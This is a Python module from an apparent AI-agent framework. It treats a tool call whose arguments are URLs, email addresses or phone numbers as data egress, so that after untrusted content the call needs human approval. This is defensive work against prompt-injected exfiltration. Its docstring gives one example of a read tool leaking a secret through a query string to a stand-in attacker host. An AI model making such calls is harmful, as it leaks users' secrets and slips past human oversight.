"""Egress by argument: a call that carries an address may send data out, whatever its tool.

After untrusted content, a call whose tool sends data out asks a human (the executor's
untrusted-content rule). A read tool sends data out too when it is given where to: a
``fetch_page(url="https://attacker.example/?d=<secret>")`` carries the secret in its URL. So an
argument is an address, and the call egress for that rule, when

* its schema says so: ``format`` ``uri``, ``uri-reference``, ``iri``, ``iri-reference``, ``url``,
  ``uri-template``, ``email``, ``idn-email``, ``hostname``, ``idn-hostname``, or ``phone`` /
  ``tel`` (not JSON Schema formats, but used), whatever the value;
* its value, normalised (``normalise.py``) and taken whole, is a URL (``scheme://host...``,
  ``//host...``, ``mailto:``, ``tel:``, ``sms:``), an email address, or a phone number in
  international form (``+`` and 7 to 15 digits) or written ``(555) 123-4567``;
* its value matches one of the policy file's ``egress_values`` (searched in the normalised value).

Strings nested in lists and objects count. A value that only mentions an address inside longer
text (a message body, a search query) is not one; a tool that sends such text out must be
declared ``egress``. ``agentlab tools lint`` flags read tools whose parameters look like
destinations (``lint.py``).
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from agentlab.tools.arguments import resolved
from agentlab.tools.normalise import normalised
from agentlab.tools.tool import Tool

ADDRESS_FORMATS = frozenset(
    {
        "uri",
        "uri-reference",
        "iri",
        "iri-reference",
        "url",
        "uri-template",
        "email",
        "idn-email",
        "hostname",
        "idn-hostname",
        "phone",
        "tel",
    }
)
_KINDS = (
    ("a URL", re.compile(r"(?:[a-z][a-z0-9+.-]*:)?//[^\s/?#]+\S*|(?:mailto|tel|sms):\S+")),
    ("an email address", re.compile(r"[^@\s]+@[^@\s]+\.[^@\s.]+")),
    ("a phone number", re.compile(r"\+\d[\d\s().-]*|\(?\d{3}\)?[\s.-]?\d{3}[\s.-]\d{4}")),
)


@dataclass(frozen=True, slots=True)
class Address:
    """An argument (``url``, ``to.0``) that is an address, and what kind (``a URL``...)."""

    argument: str
    kind: str

    def __str__(self) -> str:
        return f"{self.argument} is {self.kind}"


def addresses(
    tool: Tool, arguments: Mapping[str, Any], patterns: Sequence[re.Pattern[str]] = ()
) -> list[Address]:
    """The arguments of a call of ``tool`` that are addresses (see the module's docstring);
    ``patterns`` are the policy file's ``egress_values``."""
    found: list[Address] = []
    properties = tool.input_schema.get("properties", {})
    for name, value in arguments.items():
        prop = properties.get(name) if isinstance(properties, Mapping) else None
        if value not in (None, "", [], {}) and isinstance(prop, Mapping):
            fmt = _format(prop, tool.input_schema)
            if fmt is not None:
                found.append(Address(name, f"an address (format {fmt})"))
                continue
        found.extend(_valued(name, value, patterns))
    return found


def _format(schema: Mapping[str, Any], root: Mapping[str, Any]) -> str | None:
    """The address ``format`` of ``schema``, of one of its options, or of its items."""
    stack = [schema]
    for _ in range(64):  # a schema's own nesting; a $ref cycle stops here
        if not stack:
            return None
        sub = resolved(stack.pop(), root)
        fmt = sub.get("format")
        if isinstance(fmt, str) and fmt.lower() in ADDRESS_FORMATS:
            return fmt
        for key in ("anyOf", "oneOf", "allOf"):
            options = sub.get(key)
            stack.extend(o for o in options or () if isinstance(o, Mapping))
        items = sub.get("items")
        if isinstance(items, Mapping):
            stack.append(items)
    return None


def _valued(name: str, value: Any, patterns: Sequence[re.Pattern[str]]) -> list[Address]:
    """The strings in ``value`` (``name``'s) that are addresses by themselves."""
    found: list[Address] = []
    stack: list[tuple[Any, str]] = [(value, name)]
    while stack:
        item, path = stack.pop()
        if isinstance(item, Mapping):
            stack.extend((v, f"{path}.{k}") for k, v in item.items())
        elif isinstance(item, list | tuple):
            stack.extend((v, f"{path}.{i}") for i, v in enumerate(item))
        elif isinstance(item, str):
            kind = _kind(item, patterns)
            if kind is not None:
                found.append(Address(path, kind))
    return found


def _kind(value: str, patterns: Sequence[re.Pattern[str]]) -> str | None:
    text = normalised(value)
    for kind, shape in _KINDS:
        if shape.fullmatch(text) and (kind != "a phone number" or 7 <= _digits(text) <= 15):
            return kind
    for p in patterns:
        if p.search(text):
            return f"an address (egress_values /{p.pattern}/)"
    return None


def _digits(text: str) -> int:
    return sum(ch.isdigit() for ch in text)
